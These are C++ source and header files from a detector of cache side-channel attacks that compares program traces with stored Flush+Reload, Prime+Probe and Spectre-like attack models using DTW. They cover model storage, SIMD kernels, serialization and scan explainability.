    ::close(fd);
    fail("cannot stat " + path);
  }
  const std::uint64_t len = static_cast<std::uint64_t>(st.st_size);
  if (len < kHeaderBytes) {
    ::close(fd);
    fail(path + ": file too small for a store header");
  }
  void* addr = ::mmap(nullptr, len, PROT_READ, MAP_PRIVATE, fd, 0);
  ::close(fd);
  if (addr == MAP_FAILED)
    fail("cannot mmap " + path + ": " + std::strerror(errno));
  im.map_addr = addr;
  im.map_len = len;
  im.data = static_cast<const std::uint8_t*>(addr);
  im.size = len;
  store->is_mmap_ = true;
#else
  im.owned = read_file_aligned(path, &im.size);
  im.data = reinterpret_cast<const std::uint8_t*>(im.owned.data());
#endif
  im.parse(*store, opts);
  return store;
}

std::shared_ptr<const ModelStore> ModelStore::from_bytes(
    std::vector<std::uint8_t> bytes, const StoreOptions& opts) {
  std::shared_ptr<ModelStore> store(new ModelStore());
  store->impl_ = std::make_unique<Impl>();
  Impl& im = *store->impl_;
  // Copy into a u64-backed buffer: the format requires 8-byte alignment
  // of the image base and a vector<uint8_t> does not guarantee it.
  im.owned.resize((bytes.size() + 7) / 8);
  if (!bytes.empty())
    std::memcpy(im.owned.data(), bytes.data(), bytes.size());
  im.data = reinterpret_cast<const std::uint8_t*>(im.owned.data());
  im.size = bytes.size();
  im.parse(*store, opts);
  return store;
}

CompiledRepository::StoreView ModelStore::compiled_view(
    const DistanceConfig& dc) const {
  if (dc.alphabet != alphabet_)
    fail("scan alphabet does not match the store's (re-pack the store)");
  const Impl& im = *impl_;
  const StringTableRef& st = im.scan_tab(alphabet_);
  CompiledRepository::StoreView v;
  v.dc = dc;
  v.tokens = {st.blob, st.off,      im.weight, im.cls,
              im.probe, im.probe_mask, st.count};
  v.models = im.models;
  v.unique_elements = unique_elements_;
  return v;
}

std::vector<ml::FeatureVector> ModelStore::triage_vectors() const {
  std::vector<ml::FeatureVector> out(num_models());
  for (std::size_t g = 0; g < out.size(); ++g) {
    const Impl::ModelRef r = impl_->refs[g];
    const double* t = impl_->shards[r.shard].triage + 9 * std::uint64_t{r.local};
    out[g].assign(t, t + 9);
  }
  return out;
}

std::vector<Family> ModelStore::model_families() const {
  return families_;
}

std::vector<AttackModel> ModelStore::unpack() const {
  const Impl& im = *impl_;
  std::vector<AttackModel> out(num_models());
  for (std::size_t g = 0; g < out.size(); ++g) {
    const Impl::ModelRef r = im.refs[g];
    const ShardRef& sh = im.shards[r.shard];
    AttackModel& m = out[g];
    m.name = std::string(sh.name(r.local));
    m.family = sh.family;
    const std::uint32_t es = sh.elem_start[r.local];
    const std::uint32_t n = sh.elem_start[r.local + 1] - es;
    m.sequence.resize(n);
    for (std::uint32_t i = 0; i < n; ++i) {
      const std::uint64_t e = std::uint64_t{es} + i;
      CstBbsElement& el = m.sequence[i];
      el.block = static_cast<cfg::BlockId>(sh.block[e]);
      el.first_cycle = sh.first_cycle[e];
      el.cst.before.ao = sh.cst[4 * e];
      el.cst.before.io = sh.cst[4 * e + 1];
      el.cst.after.ao = sh.cst[4 * e + 2];
      el.cst.after.io = sh.cst[4 * e + 3];
      el.norm_instrs.reserve(sh.norm_off[e + 1] - sh.norm_off[e]);
      for (std::uint32_t t = sh.norm_off[e]; t < sh.norm_off[e + 1]; ++t)
        el.norm_instrs.emplace_back(im.norm_tab.str(sh.norm_ids[t]));
      el.sem_tokens.reserve(sh.sem_off[e + 1] - sh.sem_off[e]);
      for (std::uint32_t t = sh.sem_off[e]; t < sh.sem_off[e + 1]; ++t)
        el.sem_tokens.emplace_back(im.sem_tab.str(sh.sem_ids[t]));
    }
  }
  return out;
}

StoreInfo ModelStore::info() const {
  const Impl& im = *impl_;
  StoreInfo out;
  out.version = kVersion;
  out.alphabet = alphabet_;
  out.file_bytes = im.size;
  out.model_count = static_cast<std::uint32_t>(num_models());
  out.unique_elements = unique_elements_;
  out.norm_tokens = im.norm_tab.count;
  out.sem_tokens = im.sem_tab.count;
  out.shard_count = im.shards.size();
  out.checksums_verified = im.checksums_verified;
  for (const SectionRec& s : im.sections) {
    StoreSectionInfo si;
    si.name = section_kind_name(s.kind);
    si.kind = s.kind;
    si.shard_family = s.kind == kSecShard ? static_cast<Family>(s.family)
                                          : Family::kCount;
    si.offset = s.offset;
    si.bytes = s.bytes;
    si.checksum = s.checksum;
    if (s.kind == kSecShard) {
      for (const ShardRef& sh : im.shards)
        if (sh.family == si.shard_family) si.shard_models = sh.model_count;
    }
    out.sections.push_back(std::move(si));
  }
  return out;
}

}  // namespace scag::core
