// Attack families of Table II.
#pragma once

#include <optional>
#include <string_view>

namespace scag::core {

/// The four attack types of the paper's dataset (Table II) plus Benign,
/// which is what the detector reports when no model scores above threshold.
enum class Family : int {
  kFlushReload,  // FR-F : Flush+Reload / Flush+Flush / Evict+Reload
  kPrimeProbe,   // PP-F : Prime+Probe
  kSpectreFR,    // S-FR : Spectre-like variants of FR
  kSpectrePP,    // S-PP : Spectre-like variants of PP
  kBenign,
  kCount,
};

inline constexpr int kNumAttackFamilies = 4;  // excludes kBenign

std::string_view family_name(Family f);
std::string_view family_abbrev(Family f);
std::optional<Family> parse_family(std::string_view abbrev);

}  // namespace scag::core
