#include "core/simd.h"

#include <cstdlib>
#include <cstring>

#if defined(__x86_64__) && (defined(__GNUC__) || defined(__clang__))
#define SCAG_SIMD_HAVE_AVX2 1
#include <immintrin.h>
#endif
#if defined(__aarch64__)
#define SCAG_SIMD_HAVE_NEON 1
#include <arm_neon.h>
#endif

namespace scag::core::simd {
namespace {

// Reference lanes: the exact scalar comparison chain the vector backends
// must reproduce. Also the tail loop for partial vectors.
void diag_step_scalar(const double* diag, const double* sdiag,
                      const double* up, const double* sup, const double* left,
                      const double* sleft, const double* cost, double* out,
                      double* sout, std::size_t len) {
  for (std::size_t k = 0; k < len; ++k) {
    double best = diag[k];
    double s = sdiag[k];
    if (up[k] < best) {
      best = up[k];
      s = sup[k];
    }
    if (left[k] < best) {
      best = left[k];
      s = sleft[k];
    }
    out[k] = best + cost[k];
    sout[k] = s + 1.0;
  }
}

#if SCAG_SIMD_HAVE_AVX2
// 4 lanes per iteration. _CMP_LT_OQ + blendv is the scalar `if (x < best)`
// for every non-NaN input (including the +inf boundary sentinels), and
// _mm256_add_pd rounds exactly like the scalar add, so results are
// bit-identical to diag_step_scalar. Compiled with a per-function target
// attribute so the translation unit (and the rest of the build) keeps the
// default portable flags; dispatch checks cpu support at runtime.
__attribute__((target("avx2"))) void diag_step_avx2(
    const double* diag, const double* sdiag, const double* up,
    const double* sup, const double* left, const double* sleft,
    const double* cost, double* out, double* sout, std::size_t len) {
  std::size_t k = 0;
  for (; k + 4 <= len; k += 4) {
    __m256d best = _mm256_loadu_pd(diag + k);
    __m256d s = _mm256_loadu_pd(sdiag + k);
    const __m256d u = _mm256_loadu_pd(up + k);
    const __m256d su = _mm256_loadu_pd(sup + k);
    __m256d m = _mm256_cmp_pd(u, best, _CMP_LT_OQ);
    best = _mm256_blendv_pd(best, u, m);
    s = _mm256_blendv_pd(s, su, m);
    const __m256d l = _mm256_loadu_pd(left + k);
    const __m256d sl = _mm256_loadu_pd(sleft + k);
    m = _mm256_cmp_pd(l, best, _CMP_LT_OQ);
    best = _mm256_blendv_pd(best, l, m);
    s = _mm256_blendv_pd(s, sl, m);
    _mm256_storeu_pd(out + k, _mm256_add_pd(best, _mm256_loadu_pd(cost + k)));
    _mm256_storeu_pd(sout + k, _mm256_add_pd(s, _mm256_set1_pd(1.0)));
  }
  if (k < len)
    diag_step_scalar(diag + k, sdiag + k, up + k, sup + k, left + k,
                     sleft + k, cost + k, out + k, sout + k, len - k);
}
// 4 lanes per iteration. The a-side ids walk downwards (row index falls
// along an anti-diagonal), so a 128-bit load ending at a_desc[-k] is
// lane-reversed with a shuffle; ids are zero-extended to 64 bits and the
// index a*stride + b computed in 64-bit lanes (mul_epu32 is exact here:
// both factors fit 32 bits). vgatherqpd performs one aligned 8-byte load
// per lane — bitwise the same values the scalar loop reads.
__attribute__((target("avx2"))) void pair_gather_avx2(
    const double* table, std::size_t stride, const std::uint32_t* a_desc,
    const std::uint32_t* b_asc, double* out, std::size_t len) {
  const __m256i vstride = _mm256_set1_epi64x(static_cast<long long>(stride));
  std::size_t k = 0;
  for (; k + 4 <= len; k += 4) {
    __m128i a = _mm_loadu_si128(
        reinterpret_cast<const __m128i*>(a_desc - k - 3));
    a = _mm_shuffle_epi32(a, _MM_SHUFFLE(0, 1, 2, 3));
    const __m128i b =
        _mm_loadu_si128(reinterpret_cast<const __m128i*>(b_asc + k));
    const __m256i a64 = _mm256_cvtepu32_epi64(a);
    const __m256i b64 = _mm256_cvtepu32_epi64(b);
    const __m256i idx =
        _mm256_add_epi64(_mm256_mul_epu32(a64, vstride), b64);
    _mm256_storeu_pd(out + k, _mm256_i64gather_pd(table, idx, 8));
  }
  for (; k < len; ++k)
    out[k] = table[static_cast<std::size_t>(a_desc[-static_cast<std::ptrdiff_t>(
                       k)]) *
                       stride +
                   b_asc[k]];
}
#endif  // SCAG_SIMD_HAVE_AVX2

#if SCAG_SIMD_HAVE_NEON
// 2 lanes per iteration; vcltq_f64 + vbslq_f64 mirror the scalar compare
// chain, vaddq_f64 the scalar add.
void diag_step_neon(const double* diag, const double* sdiag, const double* up,
                    const double* sup, const double* left, const double* sleft,
                    const double* cost, double* out, double* sout,
                    std::size_t len) {
  std::size_t k = 0;
  for (; k + 2 <= len; k += 2) {
    float64x2_t best = vld1q_f64(diag + k);
    float64x2_t s = vld1q_f64(sdiag + k);
    const float64x2_t u = vld1q_f64(up + k);
    const float64x2_t su = vld1q_f64(sup + k);
    uint64x2_t m = vcltq_f64(u, best);
    best = vbslq_f64(m, u, best);
    s = vbslq_f64(m, su, s);
    const float64x2_t l = vld1q_f64(left + k);
    const float64x2_t sl = vld1q_f64(sleft + k);
    m = vcltq_f64(l, best);
    best = vbslq_f64(m, l, best);
    s = vbslq_f64(m, sl, s);
    vst1q_f64(out + k, vaddq_f64(best, vld1q_f64(cost + k)));
    vst1q_f64(sout + k, vaddq_f64(s, vdupq_n_f64(1.0)));
  }
  if (k < len)
    diag_step_scalar(diag + k, sdiag + k, up + k, sup + k, left + k,
                     sleft + k, cost + k, out + k, sout + k, len - k);
}
#endif  // SCAG_SIMD_HAVE_NEON

struct Backend {
  DiagStepFn fn;
  PairGatherFn gather;
  Level level;
};

// Under ThreadSanitizer the pair gather is disabled (scalar loop instead):
// its vector loads read memo cells that concurrent scan threads fill
// through relaxed atomics. The hardware performs the same indivisible
// aligned 8-byte loads either way, but TSan cannot see atomicity through
// the vgatherqpd intrinsic and would report the benign race.
#if defined(__SANITIZE_THREAD__)
#define SCAG_SIMD_TSAN 1
#elif defined(__has_feature)
#if __has_feature(thread_sanitizer)
#define SCAG_SIMD_TSAN 1
#endif
#endif
#ifndef SCAG_SIMD_TSAN
#define SCAG_SIMD_TSAN 0
#endif

Backend detect_backend() {
#if SCAG_SIMD_HAVE_AVX2
  if (__builtin_cpu_supports("avx2"))
    return {diag_step_avx2, SCAG_SIMD_TSAN ? nullptr : pair_gather_avx2,
            Level::kAvx2};
#endif
#if SCAG_SIMD_HAVE_NEON
  return {diag_step_neon, nullptr, Level::kNeon};
#endif
  return {diag_step_scalar, nullptr, Level::kScalar};
}

const Backend& backend() {
  static const Backend b = detect_backend();
  return b;
}

bool read_env_enabled() {
  const char* v = std::getenv("SCAG_SIMD");
  if (v == nullptr || *v == '\0') return true;
  return std::strcmp(v, "0") != 0;
}

}  // namespace

DiagStepFn diag_step() { return backend().fn; }

PairGatherFn pair_gather() { return backend().gather; }

Level active_level() { return backend().level; }

const char* level_name() {
  switch (backend().level) {
    case Level::kAvx2:
      return "avx2";
    case Level::kNeon:
      return "neon";
    case Level::kScalar:
      return "scalar";
  }
  return "scalar";
}

bool wavefront_enabled() {
  static const bool enabled = read_env_enabled();
  return enabled;
}

}  // namespace scag::core::simd
