// Scan explainability (decision-level observability for the detector).
//
// The scan pipeline reduces a target to a single similarity score per
// repository model; the paper's whole argument, however, rests on *which*
// basic blocks of the target warp onto *which* blocks of the attack model
// (CST-BBS + DTW, Sections III-B1/B2). This module reconstructs that
// evidence on demand:
//
//   - dtw_align(): a full-DP DTW variant with backtracking. It replicates
//     the scan kernel's dynamic program cell for cell — same band, same
//     tie-breaks — and walks the predecessor matrix back from (n, m), so
//     the reconstructed warping path's accumulated pair costs are
//     BIT-IDENTICAL to the kernel's DtwResult::distance (the additions
//     happen in the same order along the same path).
//   - Each aligned pair's cost is decomposed into its instruction-
//     Levenshtein (D_IS) and cache-state-pair (D_CSP) components, exactly
//     as cst_distance combines them.
//   - Per-model pruning attribution: the O(n+m) lower-bound value, the
//     similarity upper bound it implies, whether it would prune at the
//     detection threshold, the DP row where early abandon would have
//     fired, and the effective Sakoe-Chiba band width.
//   - A verdict rationale: the top-k cheapest aligned block pairs of the
//     best-scoring model — the concrete block-level evidence an operator
//     audits before trusting a detection.
//
// Explain always runs on the STRING kernels (core/distance.h + core/dtw.h);
// the compiled fast path of core/compiled.h is untouched and stays
// bit-identical, so every score reported here is EXPECT_EQ-equal to the
// Detection the scan produced (tests/test_explain.cpp, both alphabets).
// Cost: O(n*m) time AND memory per (target, model) pair — this is a
// diagnostic path, not a scan path. It depends only on core (it builds
// and runs under -DSCAG_METRICS_OFF).
#pragma once

#include <cstddef>
#include <cstdint>
#include <limits>
#include <string>
#include <vector>

#include "core/detector.h"

namespace scag::core {

/// Index value marking the empty-sequence side of a gap pair (the DTW
/// empty-sequence convention aligns every element of the non-empty side
/// against nothing at cost 1).
inline constexpr std::size_t kGapIndex =
    std::numeric_limits<std::size_t>::max();

/// One cell of the optimal warping path: target element `target_index`
/// aligned with model element `model_index`. For non-gap pairs,
///   cost == is_weight * is_distance + (1 - is_weight) * csp_distance
/// bit-exactly (the decomposition recomputes the exact cst_distance
/// expression); gap pairs carry cost 1 and zero components.
struct AlignedPair {
  std::size_t target_index = kGapIndex;
  std::size_t model_index = kGapIndex;
  /// Original basic-block ids of the aligned elements (0 for gap sides):
  /// what an operator greps for in the target's CFG dump.
  cfg::BlockId target_block = 0;
  cfg::BlockId model_block = 0;
  double cost = 0.0;          // combined per-element distance paid here
  double is_distance = 0.0;   // D_IS (unweighted)
  double csp_distance = 0.0;  // D_CSP (unweighted)

  bool is_gap() const {
    return target_index == kGapIndex || model_index == kGapIndex;
  }
};

/// Why (or why not) the pruning batch path could have skipped this model.
/// All values are recomputed deterministically from the pair itself; they
/// mirror bounded_similarity's decisions at `cutoff_score`.
struct PruneAttribution {
  double cutoff_score = 0.0;       // min_similarity the attribution assumes
  double kim_bound = 0.0;          // O(1) endpoints-only lower bound
  double lower_bound = 0.0;        // O(n+m) distance lower bound
  double score_upper_bound = 1.0;  // similarity bound implied by it
  /// True when the O(1) endpoints bound alone proves score < cutoff — the
  /// cheapest stage of the scan cascade (core/scan_index.h) would discard
  /// the pair before even the envelope sweep. Implies lb_prunes.
  bool kim_prunes = false;
  /// True when the lower bound alone proves score < cutoff (the pair would
  /// be skipped without running the DP).
  bool lb_prunes = false;
  /// Position of this model in the triage index's visit order for this
  /// target (0 = scanned first). Filled by explain_scan; a lone
  /// explain_pair leaves it 0.
  std::size_t triage_rank = 0;
  /// 1-based DP row at which early abandon would fire at this cutoff
  /// (every in-band cell of that row already exceeds the translated
  /// accumulated-cost limit); -1 when the DP runs to completion.
  std::ptrdiff_t early_abandon_row = -1;
  std::size_t band_width = 0;  // effective Sakoe-Chiba half-width used
};

/// Full evidence for one (target, model) comparison.
struct ModelExplanation {
  std::string model_name;
  Family family = Family::kBenign;
  std::size_t target_length = 0;
  std::size_t model_length = 0;
  /// Raw accumulated cost along the optimal path; summing `path[i].cost`
  /// in order reproduces it bit-exactly.
  double accumulated_cost = 0.0;
  std::size_t path_length = 0;
  double distance = 0.0;  // == cst_bbs_distance(target, model, config)
  double score = 0.0;     // == similarity(...) == the scan's ModelScore
  std::vector<AlignedPair> path;
  PruneAttribution prune;
};

/// One rationale line: an aligned block pair of the best-scoring model,
/// with its share of the accumulated cost.
struct RationaleEntry {
  std::string model_name;
  AlignedPair pair;
  double share = 0.0;  // pair.cost / accumulated_cost (0 when cost is 0)
};

struct ExplainConfig {
  /// Rationale size: the top_k cheapest aligned pairs of the best model.
  std::size_t top_k = 3;
  /// Emit the full per-pair path arrays in to_json(); the summary,
  /// pruning attribution, and rationale are always emitted.
  bool include_paths = true;
  /// Pruning-attribution cutoff; negative means "the detector threshold".
  double cutoff = -1.0;
};

/// The auditable record of one scan: every model's alignment evidence,
/// ordered exactly like Detection::scores, plus the verdict rationale.
struct ScanReport {
  std::string target_name;
  double threshold = 0.0;
  Family verdict = Family::kBenign;
  double best_score = 0.0;
  std::vector<ModelExplanation> models;   // sorted like Detection::scores
  std::vector<RationaleEntry> rationale;  // top-k pairs of models.front()
  bool paths_included = true;

  bool is_attack() const { return verdict != Family::kBenign; }

  /// Schema "scag-scan-report-v1" (docs/observability.md). Names are
  /// JSON-escaped; doubles are emitted as round-trippable %.17g plus an
  /// IEEE-754 hex-bits twin for bit-exact downstream comparison.
  std::string to_json() const;
  /// Human-readable: verdict line, per-model summary table, rationale
  /// table with the D_IS/D_CSP decomposition.
  std::string to_table() const;
};

/// Exact round-trippable text form of a double (IEEE-754 bits, 16 hex
/// digits). Shared by the JSON renderer and the golden explain fixture.
std::string ieee_hex_bits(double v);

/// Full-DP DTW with path reconstruction. `result` is bit-identical to
/// dtw() over cst_distance for the same inputs (distance, path_length,
/// abandoned always false); `path` is the optimal warping path in forward
/// order, including gap pairs for the empty-sequence convention.
struct DtwAlignment {
  DtwResult result;
  std::vector<AlignedPair> path;
};

DtwAlignment dtw_align(const CstBbs& a, const CstBbs& b,
                       const DtwConfig& config = {});

/// Evidence for one (target, model) pair. `cutoff_score` feeds the
/// pruning attribution (pass the detection threshold for "would the batch
/// scanner have pruned this comparison?").
ModelExplanation explain_pair(const CstBbs& target, const AttackModel& model,
                              const DtwConfig& config, double cutoff_score);

/// Explains a scan of `target` against the detector's whole repository.
/// The report's verdict/best_score/ordering are produced by the same
/// Detector::finalize reduction as Detection, so they match the scan
/// bit-exactly.
ScanReport explain_scan(const Detector& detector, const CstBbs& target,
                        std::string target_name = "",
                        const ExplainConfig& config = {});
ScanReport explain_scan(const Detector& detector, const isa::Program& target,
                        const ExplainConfig& config = {});

}  // namespace scag::core
