// Algorithm 1 of the paper: attack-relevant graph construction.
//
// Connect all identified attack-relevant blocks with the most-possible
// attack-relevant paths of the (loop-free) CFG:
//   1. remove back edges                     (loop-free CFG)
//   2. attach HPC values to blocks
//   3. for each pair of relevant blocks, enumerate the paths that avoid
//      other relevant blocks and score each path by the average HPC value
//      of its interior blocks (MAX when directly connected)
//   4. maximum spanning tree over the pair graph
//   5. restore the labeled path of each chosen edge into the result graph
#pragma once

#include <cstdint>
#include <vector>

#include "cfg/cfg.h"
#include "cfg/graph_algos.h"
#include "core/bb_profile.h"

namespace scag::core {

struct AttackGraphConfig {
  cfg::PathLimits path_limits{};
  /// The paper's MAX weight for directly connected relevant blocks.
  double direct_edge_weight = 1e18;
};

struct AttackGraph {
  /// Directed graph over the CFG's block ids; only restored-path edges.
  cfg::Digraph graph{0};
  /// Blocks included in the attack-relevant graph (relevant blocks plus
  /// interior blocks of the restored paths).
  std::vector<bool> in_graph;
  /// The attack-relevant endpoints the graph was built from.
  std::vector<cfg::BlockId> relevant;

  std::size_t node_count() const {
    std::size_t n = 0;
    for (bool b : in_graph) n += b;
    return n;
  }
};

/// Runs Algorithm 1. `relevant` are the step-2 survivors of
/// identify_relevant_blocks; `stats` provides the per-block HPC values.
AttackGraph build_attack_graph(const cfg::Cfg& cfg,
                               const std::vector<BbStats>& stats,
                               const std::vector<cfg::BlockId>& relevant,
                               const AttackGraphConfig& config = {});

}  // namespace scag::core
