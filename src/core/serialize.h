// Model repository serialization.
//
// The paper's deployment story builds the attack-model repository once and
// reuses it for every scan. This module persists CST-BBS models in a
// line-oriented text format that is diffable, versioned, and independent of
// the host's float formatting:
//
//   scaguard-models v1
//   model <name> <family-abbrev> <num-elements>
//   elem <block-id> <first-cycle> <ao> <io> <ao'> <io'>
//   norm <token>|<token>|...
//   sem <token> <token> ...
//   end
//
// Cache states are stored as exact IEEE-754 bit patterns (hex) so a
// round-trip reproduces byte-identical similarity scores.
#pragma once

#include <iosfwd>
#include <string>
#include <vector>

#include "core/model.h"

namespace scag::core {

/// Thrown on malformed repository files, with 1-based line context.
class SerializeError : public std::runtime_error {
 public:
  SerializeError(std::size_t line, const std::string& message)
      : std::runtime_error("line " + std::to_string(line) + ": " + message),
        line_(line) {}
  std::size_t line() const { return line_; }

 private:
  std::size_t line_;
};

/// Writes models in the repository format.
void save_models(std::ostream& out, const std::vector<AttackModel>& models);
std::string save_models_to_string(const std::vector<AttackModel>& models);
void save_models_to_file(const std::string& path,
                         const std::vector<AttackModel>& models);

/// Parses a repository. Throws SerializeError on malformed input.
std::vector<AttackModel> load_models(std::istream& in);
std::vector<AttackModel> load_models_from_string(const std::string& text);
std::vector<AttackModel> load_models_from_file(const std::string& path);

}  // namespace scag::core
