// Model repository serialization.
//
// The paper's deployment story builds the attack-model repository once and
// reuses it for every scan. This module persists CST-BBS models in a
// line-oriented text format that is diffable, versioned, and independent of
// the host's float formatting:
//
//   scaguard-models v1
//   model <name> <family-abbrev> <num-elements>
//   elem <block-id> <first-cycle> <ao> <io> <ao'> <io'>
//   norm <token>|<token>|...
//   sem <token> <token> ...
//   end
//
// Cache states are stored as exact IEEE-754 bit patterns (hex) so a
// round-trip reproduces byte-identical similarity scores.
#pragma once

#include <iosfwd>
#include <string>
#include <vector>

#include "core/model.h"

namespace scag::core {

/// Thrown on malformed repository files (with 1-based line context when
/// parsing) and on unserializable models at save time (line() == 0).
/// Terminal: the file content itself is wrong, so retrying never helps.
class SerializeError : public std::runtime_error {
 public:
  SerializeError(std::size_t line, const std::string& message)
      : std::runtime_error("line " + std::to_string(line) + ": " + message),
        line_(line) {}
  explicit SerializeError(const std::string& message)
      : std::runtime_error(message), line_(0) {}
  std::size_t line() const { return line_; }

 private:
  std::size_t line_;
};

/// Thrown on I/O-level failures (open/read/write/rename), real or injected
/// by a serialize.* failpoint. Transient-class: the retrying loader
/// (load_models_from_file with a RetryPolicy) retries these and only
/// these; parse errors stay SerializeError and are terminal.
class IoError : public std::runtime_error {
 public:
  explicit IoError(const std::string& message) : std::runtime_error(message) {}
};

/// Hard cap on the per-model element count accepted by load_models;
/// larger counts are rejected at the `model` line with a clear error
/// instead of surfacing later as a misleading "truncated element".
inline constexpr std::uint64_t kMaxModelElements = 1u << 20;

/// Writes models in the repository format. The line-oriented grammar
/// cannot represent every string, so unserializable models are rejected
/// with SerializeError *before* anything is written: model names must be
/// non-empty and whitespace-free, `norm` tokens must be free of '|' and
/// line breaks with no leading/trailing whitespace, and `sem` tokens must
/// be non-empty and whitespace-free. Everything save_models accepts,
/// load_models round-trips byte-identically.
void save_models(std::ostream& out, const std::vector<AttackModel>& models);
std::string save_models_to_string(const std::vector<AttackModel>& models);
/// Atomic variant: writes to `path + ".tmp"`, verifies the stream state
/// after flushing, and renames over `path` only on success — a crashed or
/// failed writer (disk full, I/O error) never leaves a truncated
/// repository behind, and the previous file survives intact.
void save_models_to_file(const std::string& path,
                         const std::vector<AttackModel>& models);

/// Parses a repository. Throws SerializeError on malformed input,
/// duplicate model names, or element counts above kMaxModelElements, and
/// IoError when the stream itself fails mid-read.
std::vector<AttackModel> load_models(std::istream& in);
std::vector<AttackModel> load_models_from_string(const std::string& text);
std::vector<AttackModel> load_models_from_file(const std::string& path);

/// Bounded retry-with-backoff for transient repository-load faults.
/// Deterministic: fixed attempt count, fixed backoff ladder
/// (initial_backoff_ms * multiplier^attempt), no jitter.
struct RetryPolicy {
  std::uint32_t max_attempts = 3;      // total tries, including the first
  std::uint32_t initial_backoff_ms = 2;
  double multiplier = 2.0;
};

/// Like load_models_from_file, but retries IoError-class failures (open or
/// stream read, including injected serialize.load.* faults) up to
/// policy.max_attempts times with backoff. SerializeError is rethrown
/// immediately — a malformed file never improves with retries. After the
/// final attempt the IoError is rethrown annotated with the attempt count,
/// so callers get one clear terminal error. Retries are counted in the
/// metrics counter "serialize.load_retries".
std::vector<AttackModel> load_models_from_file(const std::string& path,
                                               const RetryPolicy& policy);

}  // namespace scag::core
