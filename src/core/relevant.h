// Attack-relevant basic block identification (paper Section III-A1).
//
// Step 1: a block is *potentially* attack-relevant if it executed and its
//         HPC value (sum of the 11 Table-I events) is nonzero.
// Step 2: CSCAs must touch some cache sets from at least two different
//         blocks (prepare + probe). Compute the cache sets each potential
//         block touches; keep only blocks that touch a set also touched by
//         another potential block.
#pragma once

#include <cstdint>
#include <set>
#include <vector>

#include "cache/cache.h"
#include "core/bb_profile.h"

namespace scag::core {

struct RelevantConfig {
  /// Cache geometry used to map line addresses to cache sets in step 2
  /// (the LLC of the monitored platform).
  cache::CacheConfig set_mapping{1024, 16, 64};
  /// HPC value threshold for step 1 (paper: nonzero, i.e. > 0).
  std::uint64_t min_hpc_value = 1;
  /// Disables step 2 (overlapping-cache-set filtering); every potential
  /// block is then reported relevant. For the ablation study only.
  bool skip_step_two = false;
};

struct RelevantResult {
  /// Step-1 survivors (potential attack-relevant blocks).
  std::vector<cfg::BlockId> potential;
  /// Step-2 survivors: the identified attack-relevant blocks (#IAB).
  std::vector<cfg::BlockId> relevant;
  /// Cache sets that were accessed by >= 2 distinct potential blocks.
  std::set<std::uint32_t> shared_sets;
};

/// Runs both identification steps over per-block statistics.
RelevantResult identify_relevant_blocks(const std::vector<BbStats>& stats,
                                        const RelevantConfig& config = {});

}  // namespace scag::core
