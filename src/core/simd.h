// Portable SIMD backend for the anti-diagonal (wavefront) DTW kernel
// (core/dtw_wavefront.h).
//
// The only vectorized primitive is `diag_step`: one wavefront step over a
// contiguous run of anti-diagonal lanes, each lane performing the scalar
// DP cell update
//
//   best = diag[k]; s = sdiag[k];
//   if (up[k]   < best) { best = up[k];   s = sup[k];   }
//   if (left[k] < best) { best = left[k]; s = sleft[k]; }
//   out[k]  = best + cost[k];
//   sout[k] = s + 1.0;
//
// with *exactly* that comparison chain and rounding: the AVX2/NEON
// specializations use ordered less-than compares + blends + one add per
// lane, which for the non-NaN inputs the DP produces (finite costs and
// +inf boundary sentinels) are bit-identical to the scalar if-chain. No
// reassociation, no FMA, no fast-math — scores stay bit-identical to the
// row-major scalar kernel in core/dtw.h.
//
// Backend selection happens once, at first use, via runtime CPU detection
// (`__builtin_cpu_supports("avx2")` on x86-64, compile-time on aarch64);
// the build itself uses the default target flags, so the binary stays
// portable. `SCAG_SIMD=0` in the environment disables wavefront dispatch
// entirely (scans fall back to the scalar row DP); a value of `1` (or the
// variable being unset) leaves it on.
#pragma once

#include <cstddef>
#include <cstdint>

namespace scag::core::simd {

/// Which diag_step implementation runtime detection selected.
enum class Level { kScalar, kNeon, kAvx2 };

/// Lane-count multiple callers should pad diag_step calls to (with ghost
/// lanes whose inputs they own and whose outputs they never read).
/// Padding keeps every store the widest vector width: a call that ends in
/// a scalar tail leaves mixed 8/32-byte stores that the next diagonal's
/// overlapping vector loads cannot store-forward from, which measured
/// ~4x slower than the padded form on short diagonals. A power of two,
/// sized for the widest backend (AVX2, 4 doubles); the narrower backends
/// just do at most kLanePad - 1 lanes of throwaway work.
inline constexpr std::size_t kLanePad = 4;

/// One wavefront step over `len` lanes (see the file comment for the
/// per-lane semantics). `diag`/`sdiag` are the d-2 diagonal's values and
/// step counts, `up`/`sup` and `left`/`sleft` the two d-1 offsets, `cost`
/// the per-lane cell costs; results go to `out`/`sout`. All pointers are
/// pre-offset by the caller; ranges may not alias `out`/`sout`.
using DiagStepFn = void (*)(const double* diag, const double* sdiag,
                            const double* up, const double* sup,
                            const double* left, const double* sleft,
                            const double* cost, double* out, double* sout,
                            std::size_t len);

/// The backend selected for this process (detection runs once).
DiagStepFn diag_step();

/// Anti-diagonal gather from a dense pair table: lane k reads
/// table[a_desc[-k] * stride + b_asc[k]] into out[k], for k in [0, len).
/// This is the memoized element-distance lookup of the compiled kernel
/// walking one anti-diagonal (row index descending, column ascending);
/// the loads are plain 8-byte aligned reads, so the gathered bits equal
/// the scalar loop's. NaN sentinel entries (memo misses) pass through
/// untouched — the caller patches them lane by lane afterwards.
using PairGatherFn = void (*)(const double* table, std::size_t stride,
                              const std::uint32_t* a_desc,
                              const std::uint32_t* b_asc, double* out,
                              std::size_t len);

/// Vectorized pair-table gather, or nullptr when the detected backend has
/// no gather instruction (scalar, NEON): callers keep their scalar loop.
PairGatherFn pair_gather();

/// The detected level, and its lowercase name ("scalar"/"neon"/"avx2")
/// for bench telemetry.
Level active_level();
const char* level_name();

/// False when the SCAG_SIMD environment variable is set to 0 (read once
/// per process): the wavefront kernel is then never dispatched to, and
/// every DP runs the scalar row kernel. Direct calls to dtw_wavefront()
/// (tests, benches) are not affected — only the DtwKernel dispatch.
bool wavefront_enabled();

}  // namespace scag::core::simd
