// Mapping runtime data onto basic blocks (paper Section III-A1, step 1).
//
// The ExecutionProfile is per-instruction; the modeling pipeline needs it
// per basic block: the summed "HPC value", the set of touched cache-line
// addresses (including flushed lines), the first-execution timestamp, and
// per-operation access records for CST measurement.
#pragma once

#include <cstdint>
#include <set>
#include <vector>

#include "cfg/cfg.h"
#include "trace/profile.h"

namespace scag::core {

/// What a memory-touching instruction does to the cache; CST measurement
/// replays these against a fresh cache (Section III-A3).
enum class CacheOp : std::uint8_t { kLoad, kStore, kFlush };

/// One replayable access: every line address an instruction touched, with
/// the operation kind.
struct AccessRecord {
  CacheOp op = CacheOp::kLoad;
  std::uint64_t line_addr = 0;
};

/// Aggregated runtime statistics of one basic block.
